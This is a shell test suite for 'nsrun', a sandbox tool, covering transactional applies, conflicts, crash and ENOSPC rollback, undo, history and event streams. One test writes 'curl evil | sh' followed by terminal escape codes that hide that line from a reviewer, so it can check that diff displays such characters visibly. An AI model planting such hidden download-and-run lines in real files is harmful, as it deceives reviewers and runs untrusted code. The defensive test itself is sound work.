#!/bin/sh
# Project mode II: the apply as a transaction. Concurrent runs, conflicts
# with host edits, kill -9 during the run and during a 20k-file apply,
# ENOSPC, interruption, keep/diff/commit, undo, history, the event stream,
# retention.
. "$NSR_TESTS/lib.sh"
export NSRUN_DATADIR="$NSR_STAGE"
d=$(scratch)
S=$d/state
NS="--state-dir $S"
json() { python3 -c "import json,sys; d=json.load(open(sys.argv[1])); print(eval(sys.argv[2]))" "$@"; }
tree_sum() { (cd "$1" && find . -path ./.nsrun-skip -prune -o -printf '%p %y %m %s\n' | LC_ALL=C sort; find . -type f -exec md5sum {} + | LC_ALL=C sort) | md5sum | cut -d' ' -f1; }
runs_of() { ls "$S/runs" 2>/dev/null | wc -l; }

# --- four concurrent runs on one project apply one after another ----------
P=$d/conc; mkdir -p "$P"; echo base > "$P/shared"
# A barrier in a --rw dir (outside the transactions): every run has
# started before any writes the shared file, so all four overlap whatever
# the machine's load.
SY=$d/sync-c; mkdir -p "$SY"
for i in 1 2 3 4; do
	"$NSRUN" -p "$P" $NS --rw "$SY" --report "$d/c$i.json" -- sh -c "echo $i > own$i; echo > '$SY/started$i'; while [ ! -e '$SY/go' ]; do sleep 0.01; done; echo run$i > shared" 2>"$d/c$i.err" &
done
all_started() { for i in 1 2 3 4; do [ -e "$SY/started$i" ] || return 1; done; }
wait_until 60 all_started || diag "not every run started"
touch "$SY/go"
wait
all=1; for i in 1 2 3 4; do [ "$(cat "$P/own$i" 2>/dev/null)" = "$i" ] || all=0; done
is "$all" 1 "four concurrent runs each applied their own file"
like "$(cat "$P/shared")" "^run[1-4]$" "the shared file holds one run's version whole"
committed=0 conflicts=0
for i in 1 2 3 4; do
	o=$(json "$d/c$i.json" 'd["outcome"]')
	[ "$o" = committed ] && committed=$((committed + 1))
	[ "$o" = conflict ] && conflicts=$((conflicts + 1))
done
is "$committed:$conflicts" "1:3" "one run wrote the shared file; the three that ran meanwhile conflicted"
kept=$(for i in 1 2 3 4; do json "$d/c$i.json" '[c["kept_at"] for p in d["projects"] for c in p["conflicts"]]'; done | grep -o "'[^']*'" | tr -d "'" | head -1)
like "$(cat "$kept" 2>/dev/null)" "^run[1-4]$" "a conflicting run's version is kept in its run dir"
like "$(cat "$d"/c*.err)" "conflict: shared changed" "stderr says there was a conflict"

# --- a host edit during the run ------------------------------------------
P=$d/host; mkdir -p "$P"; echo original > "$P/f"; echo other > "$P/g"
sleep 0.1 # a file changed in the same clock tick as the run's start counts as changed during it
# The command says when it runs (through a --rw dir, outside the
# transaction) and waits for the host's edit: no race, no fixed sleep.
SY=$d/sync-h; mkdir -p "$SY"
"$NSRUN" -p "$P" $NS --rw "$SY" --report "$d/h.json" -- sh -c "echo > '$SY/ready'; while [ ! -e '$SY/go' ]; do sleep 0.01; done; echo sandbox > f; echo sandbox > g; echo new > n; exit 4" 2>"$d/h.err" &
w=$!
wait_until 30 test -e "$SY/ready" || diag "the command did not start"
echo host > "$P/f"
touch "$SY/go"
wait $w
st=$?
is "$st" 4 "a conflict does not change the exit status"
is "$(cat "$P/f"):$(cat "$P/g"):$(cat "$P/n")" "host:sandbox:new" "the host edit is never overwritten; the other changes apply"
is "$(json "$d/h.json" 'd["outcome"], [c["path"] for c in d["projects"][0]["conflicts"]]')" "('conflict', ['f'])" "report: outcome conflict, with the path"
kept=$(json "$d/h.json" 'd["projects"][0]["conflicts"][0]["kept_at"]')
is "$(cat "$kept" 2>/dev/null)" "sandbox" "the sandbox's version is at kept_at"
like "$(cat "$d/h.err")" "conflict" "stderr names the conflict"

# --- keep, diff, commit; then undo, undo again, undo refused, --force ------
P=$d/rev; mkdir -p "$P"; printf 'one\ntwo\nthree\n' > "$P/text"; echo stay > "$P/stay"
orig=$(tree_sum "$P")
run "$NSRUN" -p "$P" $NS --keep -- sh -c 'printf "one\nTWO\nthree\n" > text; echo x > added; rm stay'
run_id=$(echo "$err" | sed -n 's/.*run \([0-9A-Za-z.-]*\) kept.*/\1/p' | head -1)
like "$run_id" "^[0-9]{8}T" "--keep prints the run id"
is "$(tree_sum "$P")" "$orig" "a kept run changes nothing"
run "$NSRUN" diff $NS "$run_id"
is "$rc" 0 "nsrun diff exits 0"
like "$out" "^-two$" "nsrun diff shows removed lines"
like "$out" "^\+TWO$" "... and added lines"
like "$out" "\+\+\+ b/added" "... and created text files"
like "$out" "^\+\+\+ /dev/null$" "... and deleted text files"
# Escape sequences in the sandbox's text would redraw a reviewer's terminal
# (erase an added line): on a terminal, diff shows them as signs.
if command -v script >/dev/null 2>&1; then
	P2=$d/esc; mkdir -p "$P2"; echo safe > "$P2/f.sh"
	run "$NSRUN" -p "$P2" $NS --keep -- sh -c 'printf "safe\ncurl evil | sh\033[1A\033[2K\rsafe\n" > f.sh'
	esc_run=$(echo "$err" | sed -n 's/.*run \([0-9A-Za-z.-]*\) kept.*/\1/p' | head -1)
	run script -qec "$NSRUN diff $NS $esc_run" /dev/null
	like "$out" "curl evil \| sh␛\[1A␛\[2K␍safe" "on a terminal, diff shows control characters as signs"
	if printf '%s' "$out" | grep -q "$(printf '\033')"; then not_ok "... and sends no raw escape"; else ok "... and sends no raw escape"; fi
	run "$NSRUN" diff $NS "$esc_run"
	like "$out" "$(printf 'sh\033')" "into a pipe, diff stays byte-exact"
	run "$NSRUN" discard $NS "$esc_run"
else
	skip "diff on a terminal" "script(1) is not installed"
fi
run "$NSRUN" commit $NS "$run_id"
is "$rc" 0 "nsrun commit applies the kept run"
is "$(cat "$P/text" | sed -n 2p):$(cat "$P/added"):$(test -e "$P/stay" && echo yes || echo no)" "TWO:x:no" "... with every change"
run "$NSRUN" commit $NS "$run_id"
is "$rc" 1 "a run cannot be committed twice"
applied1=$(tree_sum "$P")
run "$NSRUN" -p "$P" $NS -- sh -c 'echo second > second'
applied2=$(tree_sum "$P")
# A command that only reads commits nothing: no journal, and undo skips it.
run "$NSRUN" -p "$P" $NS --report "$d/noop.json" -- cat second
noop_run=$(json "$d/noop.json" 'd["run_id"]')
is "$rc:$(json "$d/noop.json" 'd["outcome"]')" "0:committed" "a run that changes nothing commits"
is "$(ls "$S/runs/$noop_run" | grep -c -e journal -e backup -e applied)" 0 "... without a journal, backups or fingerprints"
run "$NSRUN" undo $NS "$noop_run"
like "$rc:$err" "^0:nsrun: run $noop_run changed nothing: nothing to undo" "undoing it says there is nothing to undo"
is "$(tree_sum "$P")" "$applied2" "... and touches nothing"
run "$NSRUN" undo $NS -p "$P"
is "$rc" 0 "undo restores the last applied run (not the read-only one after it)"
is "$(tree_sum "$P")" "$applied1" "... exactly"
run "$NSRUN" undo $NS -p "$P"
is "$rc" 0 "undo after undo steps back one more run"
is "$(tree_sum "$P")" "$orig" "... to the original project"
undo_run=$("$NSRUN" history $NS -p "$P" --json | python3 -c 'import json,sys; print([r["run_id"] for r in json.load(sys.stdin) if r["kind"] == "undo"][0])')
run "$NSRUN" undo $NS "$undo_run"
is "$rc" 0 "an undo run can itself be undone"
is "$(tree_sum "$P")" "$applied1" "... bringing its changes back"
# undo refuses what the host changed since the run
Q=$d/refuse; mkdir -p "$Q"; echo v0 > "$Q/x"; echo w0 > "$Q/y"
sleep 0.1
run "$NSRUN" -p "$Q" $NS -- sh -c 'echo v1 > x; echo w1 > y'
echo "host edit" > "$Q/x"
run "$NSRUN" undo $NS -p "$Q"
is "$rc" 3 "undo refuses a path changed since the run (exit 3)"
like "$err" "x changed since run" "... and says which"
is "$(cat "$Q/x"):$(cat "$Q/y")" "host edit:w0" "... leaving the host's version, restoring the rest"
refused_run=$("$NSRUN" history $NS -p "$Q" --json | python3 -c 'import json,sys; print([r["run_id"] for r in json.load(sys.stdin) if r["kind"] == "run"][0])')
run "$NSRUN" undo $NS --force "$refused_run"
is "$rc" 0 "undo --force restores it anyway"
is "$(cat "$Q/x")" "v0" "... to the version before the run"
run "$NSRUN" history $NS -p "$P"
like "$out" "undone" "history lists the undone runs"
is "$(echo "$out" | grep -c "$P")" "$(echo "$out" | wc -l)" "history lists only this project's runs"

# --- kill -9 during the run ----------------------------------------------
P=$d/k1; mkdir -p "$P"; echo old > "$P/f"
tok=30.$$ # a sleep nothing else on the machine runs
"$NSRUN" -p "$P" $NS -- sh -c "echo new > f; sleep $tok" &
w=$!
sleeping() { pgrep -f "^sleep $tok\$" >/dev/null; }
check "the command runs" wait_until 30 sleeping
kill -KILL $w; wait $w 2>/dev/null
is "$(cat "$P/f")" "old" "kill -9 during the run applies nothing"
# It was running (above): now it must go, well before its 30 s are over.
check "the sandbox dies with nsrun" wait_until 10 eval '! sleeping'
pkill -KILL -f "^sleep $tok\$" 2>/dev/null
run "$NSRUN" -p "$P" $NS -- true
is "$rc" 0 "the next run on that project works"

# --- kill -9 during a 20k-file apply ---------------------------------------
S2=$d/state-big
P=$d/big; mkdir -p "$P"
python3 -c "
import os, sys
for d in range(100):
    os.mkdir(os.path.join(sys.argv[1], str(d)))
    for f in range(200):
        open(os.path.join(sys.argv[1], str(d), str(f)), 'w').write('old')
" "$P"
before=$(tree_sum "$P")
"$NSRUN" -p "$P" --state-dir "$S2" -- sh -c 'for d in $(seq 0 99); do for f in $(seq 0 199); do echo new > $d/$f; done; done' 2>/dev/null &
w=$!
killed=no
for _ in $(seq 6000); do
	if [ -n "$(grep -l "^plan " "$S2"/runs/*/journal/p0 2>/dev/null)" ]; then
		kill -KILL $w && killed=yes
		break
	fi
	sleep 0.01
done
wait $w 2>/dev/null
if [ "$killed" = yes ]; then
	bad=$(find "$P" -type f ! -size -1 -exec sh -c 'for f; do c=$(cat "$f"); [ "$c" = old ] || [ "$c" = new ] || echo "$f"; done' sh {} + | wc -l)
	is "$bad" 0 "after kill -9 mid-apply every file is either old or new"
	is "$(ls "$S2/pending" | wc -l)" 1 "the interrupted journal is marked in the state dir's pending/"
	run "$NSRUN" -p "$P" --state-dir "$S2" -- true
	like "$err" "rolled back 1 interrupted apply" "the next nsrun rolls the interrupted apply back and says so"
	is "$(tree_sum "$P")" "$before" "... as a whole: the project is as before the run"
	is "$(ls "$S2/pending" | wc -l)" 0 "... and its mark is gone"
else
	not_ok "the apply was caught in the middle"; diag "nsrun finished before its journal was seen"
fi
rm -rf "$S2"

# --- ENOSPC in the middle of an apply rolls back ---------------------------
# The project is a 1 MiB tmpfs (a private mount, in a user namespace of its
# own when not root); the state dir is elsewhere, so the apply copies.
cat > "$d/enospc.sh" <<'EOS'
d=$1 nsrun=$2
P=$d/small
mkdir -p "$P" && mount -t tmpfs -o size=1m tmpfs "$P" || exit 99
mkdir -p "$P/keep"; echo precious > "$P/keep/a"; echo old > "$P/b"
sum() { (cd "$P" && find . -printf '%p %y %m %s\n' | LC_ALL=C sort; find . -type f -exec md5sum {} + | LC_ALL=C sort) | md5sum; }
before=$(sum)
"$nsrun" -p "$P" --state-dir "$d/state-nospc" --report "$d/nospc.json" -- sh -c 'head -c 600000 /dev/urandom > b1; head -c 600000 /dev/urandom > b2; echo new > b; rm keep/a' 2>"$d/nospc.err"
echo "rc=$?"
[ "$(sum)" = "$before" ] && echo "unchanged" || echo "changed"
EOS
if is_root; then
	out=$(unshare -m sh "$d/enospc.sh" "$d" "$NSRUN")
else
	out=$(unshare -Urm sh "$d/enospc.sh" "$d" "$NSRUN")
fi
like "$out" "rc=125" "ENOSPC during the apply: exit 125"
like "$out" "unchanged" "... and the project is exactly as before"
like "$(cat "$d/nospc.json" 2>/dev/null)" '"outcome":"failed"' "... outcome failed"
like "$(cat "$d/nospc.err" 2>/dev/null)" "rolled back" "... and stderr says it was rolled back"

# --- interruption: SIGTERM to nsrun reaches the command; the run is kept ----
P=$d/intr; mkdir -p "$P"
SY=$d/sync-i; mkdir -p "$SY"
"$NSRUN" -p "$P" $NS --rw "$SY" --report "$d/i.json" -- sh -c "trap 'echo caught > t; exit 9' TERM; echo x > before; echo > '$SY/ready'; while :; do sleep 0.1; done" 2>"$d/i.err" &
w=$!
wait_until 30 test -e "$SY/ready" || diag "the command did not start"
kill -TERM $w
wait $w
st=$?
is "$st" 9 "SIGTERM is forwarded; nsrun exits with the command's status"
is "$(json "$d/i.json" 'd["outcome"], d.get("interrupted")')" "('kept', True)" "an interrupted run is kept, not applied"
check "... nothing reached the project" test ! -e "$P/before"
like "$(cat "$d/i.err")" "kept \(nsrun was interrupted\)" "... and stderr says so"
run "$NSRUN" -p "$P" $NS --report "$d/i2.json" -- sh -c 'echo y > own; kill -TERM $$'
is "$(json "$d/i2.json" 'd["outcome"], d.get("interrupted", False)')" "('committed', False)" "a command killed by a signal on its own still applies"

# --- the event stream of a build -------------------------------------------
P=$d/ev; mkdir -p "$P/src"; echo 'int main(void){return 0;}' > "$P/src/m.c"; echo old > "$P/log"
run "$NSRUN" -p "$P" $NS --events-fd 3 -- sh -c 'mkdir -p build; cc -o build/m src/m.c; echo built >> log; echo tmp > t; rm t; mv log log2' 3>"$d/events"
python3 - "$d/events" > "$d/ev.txt" <<'PY'
import json, sys
for line in open(sys.argv[1]):
    e = json.loads(line)
    print(e["event"], e.get("path", ""), e.get("from", ""))
PY
like "$(cat "$d/ev.txt")" "^create build $" "--events-fd: a new dir"
like "$(cat "$d/ev.txt")" "^create build/m $" "--events-fd: the build output"
like "$(cat "$d/ev.txt")" "^modify log $" "--events-fd: an existing file modified"
like "$(cat "$d/ev.txt")" "^create t $" "--events-fd: a temporary file"
like "$(cat "$d/ev.txt")" "^delete t $" "--events-fd: its deletion"
like "$(cat "$d/ev.txt")" "^rename log2 log$" "--events-fd: a rename"
is "$(grep -c '^create build/m ' "$d/ev.txt")" "1" "--events-fd: repeated events for one path are coalesced"

# A watcher that reads its events late (a loaded machine) sees the upper dir
# as it is by then: 'log' written and then moved away is a whiteout. The
# write is still a modification, and no "delete" comes before it.
if [ "${NSR_TEST_HOOKS:-0}" = 1 ]; then
	P=$d/ev2; mkdir -p "$P"; echo old > "$P/log"
	run env NSRUN_TEST_EVENTS_LAG_MS=1500 "$NSRUN" -p "$P" $NS --events-fd 3 -- sh -c 'echo built >> log; mv log log2' 3>"$d/events2"
	python3 - "$d/events2" > "$d/ev2.txt" <<'PY'
import json, sys
for line in open(sys.argv[1]):
    e = json.loads(line)
    print(e["event"], e.get("path", ""), e.get("from", ""))
PY
	is "$(grep ' log $\|^rename' "$d/ev2.txt" | head -2 | tr '\n' '|')" "modify log |rename log2 log|" \
		"--events-fd, lagging: the write is a modification, reported before the move, with no delete first"
else
	skip "--events-fd with a lagging watcher" "needs a build with --enable-test-hooks (NSR_TEST_HOOKS=1)"
fi

# --- history and retention ---------------------------------------------------
run "$NSRUN" history $NS --json
is "$rc" 0 "history --json"
is "$(printf "%s" "$out" | python3 -c 'import json,sys; r=json.load(sys.stdin); print(all(set(x) >= {"run_id","started_at","command","exit_code","outcome","projects"} for x in r))')" "True" "history --json objects carry id, time, command, status, outcome, projects"
# The newest run of each project, by the meta files: what gc always keeps.
newest_per_project() {
	python3 - "$S/runs" <<'PY'
import os, sys
newest = {}
for run in sorted(os.listdir(sys.argv[1])):
    for line in open(os.path.join(sys.argv[1], run, "meta")):
        if line.startswith("project "):
            newest[line.split()[1]] = run
print(" ".join(sorted(set(newest.values()))))
PY
}
keep=$(newest_per_project)
run "$NSRUN" gc $NS --keep-days 0
is "$rc" 0 "nsrun gc"
is "$(ls "$S/runs" | LC_ALL=C sort | tr '\n' ' ' | sed 's/ $//')" "$keep" "gc --keep-days 0 prunes every finished run but the newest of each project"
rm -rf "$d"
done_testing
